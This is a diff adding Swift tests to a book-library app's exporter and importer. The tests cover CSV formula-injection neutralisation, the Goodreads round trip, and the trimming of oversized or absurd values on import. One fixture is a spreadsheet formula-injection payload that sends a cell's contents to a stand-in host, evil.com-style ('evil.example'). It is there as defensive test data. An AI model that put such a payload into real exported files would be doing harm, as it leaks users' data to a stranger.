@@ -182,6 +182,48 @@ import Testing
         }
     }
 
+    /// A cell that starts like a formula is one to a spreadsheet: `=HYPERLINK(…&A1…)` would send
+    /// the next cell to a stranger. Such cells get a leading quote (OWASP's rule), which the
+    /// Goodreads import takes off again, so the round trip stays byte for byte.
+    @Test func csvCellsThatLookLikeFormulasAreNeutralisedAndRoundTrip() throws {
+        let shelf = try TemporaryShelf()
+        let title = #"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#
+        let book = try shelf.library.addBook(
+            NewBook(
+                title: title, authors: ["@Someone", "+Plus One"], publisher: "-Minus Press", status: .read,
+                rating: try Rating(2), shelves: ["=SUM(A1:A9)"]))
+        try NoteStore(folder: shelf.paths.notes).writeNote(
+            "-1 stars.\u{0}\n\n=1+1 is not a review\n", forSlug: book.book.slug)
+        let exporter = LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
+        let first = try exporter.goodreadsCSV()
+        #expect(!first.contains(0))
+        let records = CSVParser().parse([UInt8](first))
+        let header = records[0].fields
+        let row = Dictionary(uniqueKeysWithValues: zip(header, records[1].fields))
+        #expect(row["Title"] == "'" + title)
+        #expect(row["Author"] == "'@Someone" && row["Additional Authors"] == "'+Plus One")
+        #expect(row["Publisher"] == "'-Minus Press")
+        #expect(row["Bookshelves"] == "'=SUM(A1:A9), read")
+        #expect(row["My Review"] == "'-1 stars.\n\n=1+1 is not a review")
+        // Bookplate's own formulas, as Goodreads writes ISBNs, and plain numbers stay as they are.
+        #expect(row["ISBN"] == #"="""# && row["My Rating"] == "2")
+        for field in records[1].fields where !field.hasPrefix("=\"") {
+            #expect(!"=+-@\t\r".contains(field.first ?? " "), "\(field)")
+        }
+
+        let file = try TestPaths.temporaryFolder("export").appendingPathComponent("export.csv")
+        try first.write(to: file)
+        let fresh = try TemporaryShelf()
+        let report = try ShelfImport(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes)).run(
+            file: file, as: .goodreads)
+        #expect(report.summary.added.count == 1 && report.summary.skipped.isEmpty)
+        let imported = try fresh.library.findBook(matching: book.book.slug)
+        #expect(imported.book.title == title && imported.authors.map(\.name) == ["@Someone", "+Plus One"])
+        let second = try LibraryExporter(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes))
+            .goodreadsCSV()
+        #expect(first == second, "\(GoldenFiles.readableDiff(first, second))")
+    }
+
     @Test func theJSONExportHoldsEverything() throws {
         let shelf = try FixtureShelf.make()
         let data = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).json()
@@ -252,6 +294,77 @@ extension ExportTests {
         let report = try importText(Self.header + "1,The Republic,Plato,,,5,,-380,read\n", into: shelf)
         #expect(report.summary.added.count == 1 && report.summary.skipped.isEmpty)
         #expect(try shelf.library.findBook(matching: "republic").book.publishedDate == nil)
+    }
+
+    @Test func absurdCountsAreLeftOutWithAWarningNamingTheRow() throws {
+        let shelf = try TemporaryShelf()
+        let report = try importText(
+            "Book Id,Title,Author,Number of Pages,Read Count\n"
+                + "1,Dune,Frank Herbert,9223372036854775807,99999999999999999999\n2,Emma,Jane Austen,474,0\n",
+            into: shelf)
+        #expect(report.summary.added.count == 2 && report.summary.skipped.isEmpty)
+        #expect(
+            report.summary.warnings == [
+                RowWarning(
+                    line: 2,
+                    message: "Number of Pages '9223372036854775807' is not a whole number from 1 to 100000: left out"),
+                RowWarning(
+                    line: 2, message: "Read Count '99999999999999999999' is not a whole number from 1 to 1000: left out"
+                ),
+            ])
+        let dune = try shelf.library.findBook(matching: "dune").book
+        #expect(dune.pageCount == nil && dune.readCount == nil)
+        #expect(try shelf.library.findBook(matching: "emma").book.pageCount == 474)
+
+        let json = """
+            {"bookplate": 2, "authors": [], "books": [{"slug": "emma-2", "title": "Emma Again", "authors": [],
+            "pages": \(Int.max), "readCount": -3, "subjects": [], "status": "read", "shelves": [],
+            "added": "2024-01-01T00:00:00Z"}]}
+            """
+        let file = try TestPaths.temporaryFolder("edge").appendingPathComponent("export.json")
+        try Data(json.utf8).write(to: file)
+        let fromJSON = try ShelfImport(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
+            .run(file: file, as: .bookplate)
+        #expect(fromJSON.summary.added == ["emma-2"] && fromJSON.summary.warnings.count == 2)
+        #expect(try shelf.library.findBook(matching: "emma-2").book.pageCount == nil)
+    }
+
+    /// A field of megabytes would make a page of megabytes: it is cut, and the report says so.
+    @Test func fieldsOfMegabytesAreCutWithAWarningNamingTheRow() throws {
+        let shelf = try TemporaryShelf()
+        let huge = String(repeating: "word ", count: 600_000)
+        let report = try importText(
+            "Book Id,Title,Author,My Review\n1,Dune,Frank Herbert,Fine.\n2,\(huge),\(huge),\(huge)\n", into: shelf)
+        #expect(report.summary.added.count == 2 && report.summary.skipped.isEmpty)
+        #expect(
+            report.summary.warnings == [
+                RowWarning(line: 3, message: "the title is 2999999 characters long: cut to the first 10000"),
+                RowWarning(line: 3, message: "an author's name is 2999999 characters long: cut to the first 10000"),
+                RowWarning(line: 3, message: "the review is 3000000 characters long: cut to the first 1000000"),
+            ])
+        let book = try #require(try shelf.library.books().first { $0.book.title.hasPrefix("word word") })
+        #expect(book.book.title.count < 10_000 && book.authors.first.map { $0.name.count < 10_000 } == true)
+        let note = try #require(try NoteStore(folder: shelf.paths.notes).note(forSlug: book.book.slug))
+        #expect(note.count <= 1_000_000)
+        try shelf.build()
+        let page = try shelf.siteFile("books/\(book.book.slug)/index.html")
+        #expect(page.utf8.count < 2_000_000)
+
+        let json = """
+            {"bookplate": 2, "authors": [{"slug": "a", "name": "A", "sortName": "A", "bio": "\(huge)"}],
+            "books": [{"slug": "b", "title": "B", "authors": ["A"], "subjects": [], "status": "read",
+            "shelves": [], "added": "2024-01-01T00:00:00Z", "note": "\(huge)"}]}
+            """
+        let file = try TestPaths.temporaryFolder("edge").appendingPathComponent("export.json")
+        try Data(json.utf8).write(to: file)
+        let fromJSON = try ShelfImport(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
+            .run(file: file, as: .bookplate)
+        #expect(
+            fromJSON.summary.warnings == [
+                RowWarning(
+                    line: 0, message: "author 1: an author's bio is 3000000 characters long: cut to the first 1000000"),
+                RowWarning(line: 1, message: "the review is 3000000 characters long: cut to the first 1000000"),
+            ])
     }
 
     @Test func aFileCutOffInsideAQuoteIsReported() throws {
